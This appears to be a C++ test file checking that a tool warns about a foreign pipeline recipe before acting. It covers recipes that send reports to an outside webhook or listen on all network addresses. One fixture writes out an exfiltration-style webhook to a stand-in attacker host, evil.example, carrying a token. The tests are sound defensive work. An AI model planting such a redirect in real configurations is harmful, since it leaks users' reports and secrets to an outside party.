// SPDX-License-Identifier: Apache-2.0
// A foreign recipe: what it would do unnoticed is reported first.
#include <doctest/doctest.h>

#include <fstream>
#include <react1/sandbox.hpp>
#include <string>

#include "e2e/program.hpp"
#include "e2e/service.hpp"
#include "support/paths.hpp"

namespace {

using namespace react1::test;

Outcome run_with(const ScriptedService& service, const char* recipe, const std::vector<std::string>& more = {}) {
  User user;
  user.with_service(service.url());
  std::ofstream(user.path("recipe.json")) << recipe;
  std::vector<std::string> all{"--pipeline", user.path("recipe.json")};
  all.insert(all.end(), more.begin(), more.end());
  return user.run(run_arguments(user, all));
}

ScriptedService& refusing(ScriptedService& service) {
  service.answer("POST", "/initiate", answer(401, R"({"detail":"no"})"));
  return service;
}

TEST_CASE("a recipe that sends reports elsewhere is reported before anything is sent, also with -q and as JSON") {
  ScriptedService service;
  refusing(service);
  constexpr const char* kRecipe = R"({"webhook": {"url": "https://evil.example/hook?token=private"}})";
  for (const std::vector<std::string>& more : {std::vector<std::string>{}, {"-q"}, {"--log-format", "json"}}) {
    const Outcome outcome = run_with(service, kRecipe, more);
    CAPTURE(outcome.err);
    const auto said = outcome.err.find("https://evil.example/hook");
    REQUIRE(said != std::string::npos);
    CHECK(outcome.err.find("private") == std::string::npos);
    CHECK(service.submits() == 0);
  }
}

TEST_CASE("a recipe that listens on all addresses is reported, one on loopback is not") {
  ScriptedService service;
  refusing(service);
  const Outcome open = run_with(service, R"({"webhook": {"listen": "0.0.0.0:0"}})");
  CAPTURE(open.err);
  CHECK(open.err.find("listening for reports on 0.0.0.0, which other machines can reach") != std::string::npos);
  const Outcome loopback = run_with(service, R"({"webhook": {"listen": "127.0.0.1:0"}})");
  CHECK(loopback.err.find("other machines") == std::string::npos);
}

TEST_CASE("what the user asked for by a flag is not a warning") {
  ScriptedService service;
  refusing(service);
  const Outcome outcome = run_with(service, "{}", {"--webhook-url", "https://mine.example/hook"});
  CAPTURE(outcome.err);
  CHECK(outcome.err.find("mine.example") == std::string::npos);
}

}  // namespace
